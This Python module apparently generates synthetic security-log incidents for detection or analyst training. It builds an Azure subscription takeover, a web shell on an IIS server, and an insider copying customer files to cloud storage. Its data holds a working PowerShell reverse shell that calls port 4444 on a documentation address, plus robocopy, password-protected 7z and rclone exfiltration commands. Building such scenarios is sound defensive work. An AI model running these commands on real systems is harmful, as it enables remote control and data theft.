"""Attacks on the Azure subscription, on what faces the Internet, and on data."""

from __future__ import annotations

from datetime import datetime, timedelta

from .calendar import moment
from .identity_rows import Browser, Result
from .incidents_endpoint import encoded
from .outsiders import AMSTERDAM
from .processes import Process, standing
from .stock import Stock
from .story import Story
from .tenant import Account, Tenant, guid

__all__ = ["azure_takeover", "data_to_cloud_storage", "web_shell"]

_SHELL_SERVER = "203.0.113.66"
_OWNER = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635"

_SHELL = Browser(
    "Windows10",
    "",
    "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.2506",
    client="Mobile Apps and Desktop clients",
)


def azure_takeover(stock: Stock, company: Tenant) -> Story:
    """An administrator's session opens the subscription: a role, a firewall rule, secrets, a server, its data."""
    story = Story(
        stock, "azure-takeover-adm-gustav", "incident", "A stolen account assigns Owner, opens RDP, reads the vault",
        "Who changed role assignments or network security groups in Azure last week?",
        "What did adm-gustav@contoso.com do in Azure on 12 March?",
    )  # fmt: skip
    gustav, address, at = company.accounts["adm-gustav"], AMSTERDAM.address, moment(12, "21:02:44")
    story.signin(
        at,
        gustav,
        "Microsoft Azure PowerShell",
        AMSTERDAM,
        _SHELL,
        Result(risk="high"),
        "T1078.004",
        "the administrator signs in from a new country and an unmanaged machine",
        address=address,
    )
    _open_the_subscription(story, gustav, address, at)
    _reach_the_database(story, company, at + timedelta(minutes=24))
    story.alert(
        at + timedelta(minutes=30),
        "Suspicious elevation and management operations in the subscription",
        "High",
        "PrivilegeEscalation",
        "T1098.003 T1686.001",
        account=gustav,
        address=address,
        service="Microsoft Defender for Cloud",
    )
    return story


def _reach_the_database(story: Story, company: Tenant, at: datetime) -> None:
    sql, attacker = company.hosts["sql-az01"], "203.0.113.202"
    for attempt in range(6):
        story.flow(
            at + timedelta(seconds=40 * attempt),
            sql,
            attacker,
            3389,
            "T1133" if attempt == 0 else "",
            "RDP reaches the database server from the Internet",
            outbound=False,
            rule="UserRule_Allow-Mgmt-Temp",
            flows=2,
        )
    story.logon(
        at + timedelta(minutes=2),
        sql,
        company.accounts["adm-gustav"],
        "RemoteInteractive",
        attacker,
        "T1021.001 T1133",
        "the administrator's account logs on over RDP from the Internet",
        protocol="Negotiate",
        admin=True,
    )
    story.flow(
        at + timedelta(minutes=37),
        sql,
        "203.0.113.203",
        443,
        "T1567",
        "4 GB leave the database server",
        outbound=True,
        rule="DefaultRule_AllowInternetOutBound",
        flows=180,
        sent=4.3e9,
    )


def _open_the_subscription(story: Story, gustav: Account, address: str, at: datetime) -> None:
    role = f"Microsoft.Authorization/roleAssignments/{guid('role assignment')}"
    body = {
        "Properties": {
            "PrincipalId": guid("ServicePrincipal", "svc-azure-sync"),
            "PrincipalType": "ServicePrincipal",
            "RoleDefinitionId": f"/providers/Microsoft.Authorization/roleDefinitions/{_OWNER}",
        }
    }
    story.azure(
        at + timedelta(minutes=4),
        gustav,
        address,
        "Microsoft.Authorization/roleAssignments/write",
        "",
        role,
        "T1098.003",
        "Owner of the subscription is given to a service principal",
        body=body,
    )
    rule = {
        "properties": {
            "access": "Allow",
            "direction": "Inbound",
            "priority": 100,
            "protocol": "Tcp",
            "sourceAddressPrefix": "*",
            "destinationPortRange": "3389",
        }
    }
    story.azure(
        at + timedelta(minutes=9),
        gustav,
        address,
        "Microsoft.Network/networkSecurityGroups/securityRules/write",
        "rg-apps",
        "Microsoft.Network/networkSecurityGroups/nsg-database/securityRules/Allow-Mgmt-Temp",
        "T1686.001",
        "RDP is opened to the whole Internet",
        body=rule,
    )
    _take_the_secrets(story, gustav, address, at + timedelta(minutes=13))


def _take_the_secrets(story: Story, gustav: Account, address: str, at: datetime) -> None:
    story.azure(
        at,
        gustav,
        address,
        "Microsoft.Insights/diagnosticSettings/delete",
        "rg-apps",
        "Microsoft.Insights/diagnosticSettings/kv-prod-logs",
        "T1685.002",
        "the vault's logging is switched off",
    )
    policy = {
        "properties": {
            "accessPolicies": [
                {"objectId": gustav.object_id, "permissions": {"secrets": ["get", "list"], "keys": ["all"]}}
            ]
        }
    }
    story.azure(
        at + timedelta(minutes=2),
        gustav,
        address,
        "Microsoft.KeyVault/vaults/accessPolicies/write",
        "rg-apps",
        "Microsoft.KeyVault/vaults/kv-prod",
        "T1555.006",
        "the vault lets the account read all secrets",
        body=policy,
    )
    story.azure(
        at + timedelta(minutes=5),
        gustav,
        address,
        "Microsoft.Storage/storageAccounts/listKeys/action",
        "rg-apps",
        "Microsoft.Storage/storageAccounts/contosoprod",
        "T1552",
        "the keys of the storage account are listed",
    )


def web_shell(stock: Stock, company: Tenant) -> Story:
    """A web shell on web-01 tries to call back on port 4444 all weekend; the firewall refuses."""
    story = Story(
        stock, "web-shell-4444-web-01", "incident", "Web shell on web-01 with refused reverse shells to port 4444",
        "Were there any blocked outbound connections on port 4444 from web-01 this weekend?",
        "What did the IIS worker process on web-01 start on Saturday?",
    )  # fmt: skip
    worker = standing(company.hosts["web-01"], "w3wp.exe", company.services["svc-web"])
    at = moment(14, "02:13:31")
    _upload(story, worker, at)
    caller = _reverse_shell(story, worker, at + timedelta(minutes=4))
    _refused(story, caller)
    story.alert(
        moment(14, "02:26:10"),
        "Possible web shell activity on an IIS server",
        "High",
        "Persistence",
        "T1505.003",
        process=caller,
        account=worker.actor,
        address=_SHELL_SERVER,
    )
    return story


def _upload(story: Story, worker: Process, at: datetime) -> None:
    story.flow(
        at - timedelta(minutes=1),
        worker.host,
        _SHELL_SERVER,
        443,
        "T1190",
        "requests that end in an upload",
        outbound=False,
        rule="UserRule_AllowHttpsInbound",
        flows=64,
    )
    page = r"C:\inetpub\wwwroot\portal\uploads\thumbs.aspx"
    story.file(at, worker, page, "T1505.003", "the worker process writes a page into the upload folder")
    for name, inner, technique in (
        ("whoami.exe", "whoami /priv", "T1033"),
        ("ipconfig.exe", "ipconfig /all", "T1016"),
        ("net.exe", "net user", "T1087.001"),
    ):
        at += timedelta(seconds=38)
        shell = story.process(
            at,
            worker,
            "cmd.exe",
            f'"c:\\windows\\system32\\cmd.exe" /c {inner}',
            "T1505.003 T1059.003",
            "the worker process starts a command shell",
        )
        story.process(at + timedelta(seconds=1), shell, name, inner, technique, f"discovery with {name}")


def _reverse_shell(story: Story, worker: Process, at: datetime) -> Process:
    script = (
        f"$t=New-Object Net.Sockets.TCPClient('{_SHELL_SERVER}',4444);$s=$t.GetStream();[byte[]]$b=0..65535|%{{0}};"
        "while(($i=$s.Read($b,0,$b.Length)) -ne 0){iex ([Text.Encoding]::ASCII.GetString($b,0,$i))}"
    )
    return story.process(
        at,
        worker,
        "powershell.exe",
        f"powershell.exe -nop -w hidden -e {encoded(script)}",
        "T1059.001 T1505.003",
        "the worker process starts a reverse shell",
    )


def _refused(story: Story, caller: Process) -> None:
    for hour in range(44):
        stage = "T1571" if hour == 0 else ""
        when = moment(14, "02:18:00") + timedelta(hours=hour, seconds=hour * 37 % 300)
        story.flow(
            when,
            caller.host,
            _SHELL_SERVER,
            4444,
            stage,
            "the way out to port 4444 is refused",
            outbound=True,
            rule="UserRule_Deny-Internet-Other",
            allowed=False,
            flows=4 + hour % 3,
        )
        if hour < 12:
            story.connect(when, caller, _SHELL_SERVER, 4444, stage, "the reverse shell finds no way out", failed=True)


def data_to_cloud_storage(stock: Stock, company: Tenant) -> Story:
    """Liam packs the customer files and copies them to a storage service of his own."""
    story = Story(
        stock, "exfiltration-liam", "incident", "Customer files are packed and copied to a private cloud storage",
        "Did anyone copy data to cloud storage from WS-111 on 10 March?",
        "Show unusual activity of liam@contoso.com in the last week",
    )  # fmt: skip
    host, liam, at = company.desk_of("liam"), company.accounts["liam"], moment(10, "23:31:20")
    prompt = story.process(
        at,
        standing(host, "explorer.exe", liam),
        "cmd.exe",
        r'"C:\Windows\system32\cmd.exe"',
        "",
        "a command prompt late in the evening",
    )
    copy = story.process(
        at + timedelta(seconds=40),
        prompt,
        "robocopy.exe",
        r"robocopy \\FS01\Sales\Accounts C:\Users\liam\AppData\Local\Temp\acc /E /R:0 /MT:16",
        "T1039",
        "the customer folder is copied from the file server",
    )
    for item in range(30):
        story.file(
            at + timedelta(seconds=45 + 2 * item),
            copy,
            rf"C:\Users\liam\AppData\Local\Temp\acc\Account {4100 + item}.xlsx",
            "T1074.001" if item == 0 else "",
            "customer files are gathered",
        )
    _packed_and_sent(story, prompt, at + timedelta(minutes=3))
    return story


def _packed_and_sent(story: Story, prompt: Process, at: datetime) -> None:
    archive = r"C:\Users\liam\AppData\Local\Temp\holiday.7z"
    zipper = story.process(
        at,
        prompt,
        "7z.exe",
        rf'"C:\Program Files\7-Zip\7z.exe" a -mhe=on -pWinter26 {archive} C:\Users\liam\AppData\Local\Temp\acc\*',
        "T1560.001",
        "they are packed with a password",
    )
    story.file(at + timedelta(seconds=30), zipper, archive, "T1560.001", "the archive is written")
    fetch = story.process(
        at + timedelta(minutes=3),
        prompt,
        "rclone.exe",
        rf"C:\Users\Public\rclone.exe copy {archive} mega:drop --transfers 8 --no-check-certificate",
        "T1567.002",
        "rclone copies the archive to a cloud storage",
    )
    for part in range(14):
        story.connect(
            at + timedelta(minutes=3, seconds=5 + 21 * part),
            fetch,
            "198.51.100.88",
            443,
            "T1567.002" if part == 0 else "",
            "the archive leaves",
            url="g.api.mega.example",
        )
    story.file(at + timedelta(minutes=11), prompt, archive, "T1070.004", "the archive is deleted", action="FileDeleted")
